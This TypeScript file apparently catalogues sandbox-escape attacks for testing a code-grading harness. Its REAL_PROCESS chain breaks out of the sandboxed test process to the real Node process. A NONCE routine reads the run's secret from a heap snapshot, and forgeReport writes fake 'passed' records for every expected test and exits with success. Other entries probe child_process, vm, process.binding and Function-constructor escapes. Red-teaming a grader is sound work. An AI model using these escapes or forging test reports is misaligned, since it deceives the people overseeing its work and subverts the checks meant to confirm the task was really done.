import type { SolutionAttack } from './attack.ts'
import { stubAfter } from './attack.ts'

const leave = (
  name: string,
  summary: string,
  prelude: string,
  changes: Partial<SolutionAttack> = {},
): SolutionAttack => ({
  kind: 'solution',
  name,
  class: 'sandbox-escape',
  summary,
  scope: 'every-task',
  mustBeNamed: true,
  solution: (task) => stubAfter(task, prelude),
  ...changes,
})

/** Starts from node's own streams, which are out of reach, so the program fails at its first step like any mistake. */
const BREAKS_AT_FIRST_STEP = { mustBeNamed: false }

/** Uses a module to write the records of a passing run to their descriptor. */
const FORGE = (fs: string) => `${fs}.writeSync(4, '{"kind":"end","executed":1,"failed":0}\\n')`
const quietly = (code: string) => `try { ${code} } catch {}`

/**
 * Escapes from the test process: a hash exposes node's own streams, a web stream's transfer makes node load one of its
 * internal modules, and an emitter created there leads to the real process.
 */
export const REAL_PROCESS = `
const __escape = (() => {
  const { createHash } = require('node:crypto')
  const Emitter = require('node:events')
  let chain = createHash('sha256')
  while (chain && !(chain.constructor && chain.constructor.name === 'Readable')) chain = Object.getPrototypeOf(chain)
  const Readable = chain.constructor
  const web = Readable.toWeb(new Readable({ read() {} }))
  const transfer = Object.getOwnPropertySymbols(Object.getPrototypeOf(web)).find(
    (symbol) => String(symbol).includes('messaging_transfer_symbol'),
  )
  const seen = []
  const init = Emitter.init
  Emitter.init = function (options) {
    seen.push(this)
    return init.call(this, options)
  }
  const value = () => ({ data: {}, deserializeInfo: 'internal/cluster/child:nothing' })
  Object.defineProperty(web, transfer, { value })
  try {
    structuredClone(web, { transfer: [web] })
  } catch {}
  Emitter.init = init
  const cluster = seen.find((one) => typeof one._setupWorker === 'function')
  cluster._setupWorker()
  return cluster.worker.process
})()
`

/** Paths from the code under test to the real process and its modules. */
export const SANDBOX_ESCAPES: readonly SolutionAttack[] = [
  {
    kind: 'solution',
    name: 'heap-snapshot-chain',
    class: 'sandbox-escape',
    summary:
      'Gets the real process from a web stream transfer, reads the nonce in a heap snapshot and forges the report.',
    scope: 'every-task',
    ...BREAKS_AT_FIRST_STEP,
    solution: (task) => stubAfter(task, forgeReport(task.task.expectedTests)),
  },
  leave(
    'real-process-leaves',
    'Gets the real process from a web stream transfer and ends it with success.',
    `${REAL_PROCESS}\n__escape.reallyExit(0)`,
    BREAKS_AT_FIRST_STEP,
  ),
  leave(
    'requires-fs',
    'Requires the file system and writes to the report.',
    quietly(FORGE("require('node:fs')")),
  ),
  leave(
    'requires-child-process',
    'Requires child_process to start a program.',
    quietly("require('node:child_process').execSync('true')"),
  ),
  leave(
    'requires-vm',
    'Requires vm to run code in another context.',
    quietly("require('node:vm').runInThisContext('process').reallyExit(0)"),
  ),
  leave(
    'requires-inspector',
    'Requires the inspector to debug its own process.',
    quietly(
      "const s = new (require('node:inspector').Session)(); s.connect(); s.post('HeapProfiler.takeHeapSnapshot')",
    ),
  ),
  leave(
    'requires-v8',
    'Requires v8 for a snapshot of the heap.',
    quietly("require('node:v8').getHeapSnapshot().read()"),
  ),
  leave(
    'requires-worker',
    'Requires worker_threads for a thread with fresh built-ins.',
    quietly("new (require('node:worker_threads').Worker)('process.exit(0)', { eval: true })"),
  ),
  leave(
    'requires-net',
    'Requires net to reach the network.',
    quietly("require('node:net').connect(80, '127.0.0.1')"),
  ),
  leave(
    'main-module-require',
    'Uses process.mainModule.require.',
    quietly(FORGE("process.mainModule.require('fs')")),
  ),
  leave(
    'process-binding',
    'Uses process.binding for the file system.',
    quietly("process.binding('fs').writeString(4, '{}')"),
  ),
  leave(
    'get-builtin-module',
    'Uses process.getBuiltinModule.',
    quietly(FORGE("process.getBuiltinModule('fs')")),
  ),
  leave(
    'constructor-constructor',
    'Makes a function in the outer realm by constructor.constructor.',
    "process.constructor.constructor('return process')().reallyExit(0)",
  ),
  leave(
    'function-return-process',
    'Asks a new function for the global process.',
    "Function('return process')().reallyExit(0)",
  ),
  leave(
    'dynamic-import',
    'Imports the file system at run time, by import() and by a function made from text.',
    `import('node:fs').then((fs) => ${FORGE('fs')}).catch(() => {})\n` +
      `try { Function('return import("node:fs")')().then((fs) => ${FORGE('fs')}).catch(() => {}) } catch {}`,
  ),
  leave(
    'emitter-hook',
    'Replaces emit and init of event emitters to catch a real one.',
    "const __emitter = require('node:events')\n" +
      'try { __emitter.prototype.emit = function () { if (this.reallyExit) this.reallyExit(0); return true } } catch {}\n' +
      'try { __emitter.init = function () { if (this.process) this.process.reallyExit(0) } } catch {}',
  ),
  leave(
    'web-assembly',
    'Compiles WebAssembly to leave the language.',
    quietly(
      'new WebAssembly.Module(new Uint8Array([0, 97, 115, 109, 1, 0, 0, 0])); process.binding("fs")',
    ),
  ),
  leave(
    'caller-of-caller',
    'Walks arguments.callee.caller from sloppy code to functions of the harness.',
    quietly(
      "const up = Function('return function up() { return up.caller }')()(); if (up) up.constructor('return process')().reallyExit(0); else require('node:module')",
    ),
  ),
]

/** Reads this run's nonce from a snapshot of the heap that solution and harness share. */
const NONCE = `
const __nonce = (() => {
  const stream = __escape.mainModule.require('v8').getHeapSnapshot()
  let text = ''
  for (let chunk = stream.read(); chunk !== null; chunk = stream.read()) text += chunk
  const { snapshot, nodes, edges, strings } = JSON.parse(text)
  const nodeFields = snapshot.meta.node_fields
  const edgeFields = snapshot.meta.edge_fields
  const name = strings.indexOf('nonce')
  const [toNode, nameAt] = [edgeFields.indexOf('to_node'), edgeFields.indexOf('name_or_index')]
  const types = snapshot.meta.edge_types[0]
  for (let at = 0; at < edges.length; at += edgeFields.length) {
    const type = types[edges[at]]
    if (type === 'element' || type === 'hidden' || edges[at + nameAt] !== name) continue
    const found = strings[nodes[edges[at + toNode] + nodeFields.indexOf('name')]]
    if (/^[0-9a-f]{32}$/.test(found)) return found
  }
  const line = strings.find((one) => /^\\{"nonce":"[0-9a-f]{32}"/.test(one))
  return line.slice(10, 42)
})()
`

/** Reports every one of these tests as passed in the harness's name, and exits successfully. */
function forgeReport(testNames: readonly string[]): string {
  return `${REAL_PROCESS}${NONCE}
;(() => {
  const { writeSync } = __escape.mainModule.require('fs')
  const tests = ${JSON.stringify(testNames)}
  const line = (fields) => writeSync(4, JSON.stringify({ nonce: __nonce, ...fields }) + '\\n')
  for (const name of tests) line({ kind: 'test', name, status: 'passed', durationMs: 1 })
  line({ kind: 'end', executed: tests.length, failed: 0, probeMax: null })
  __escape.reallyExit(0)
})()
`
}
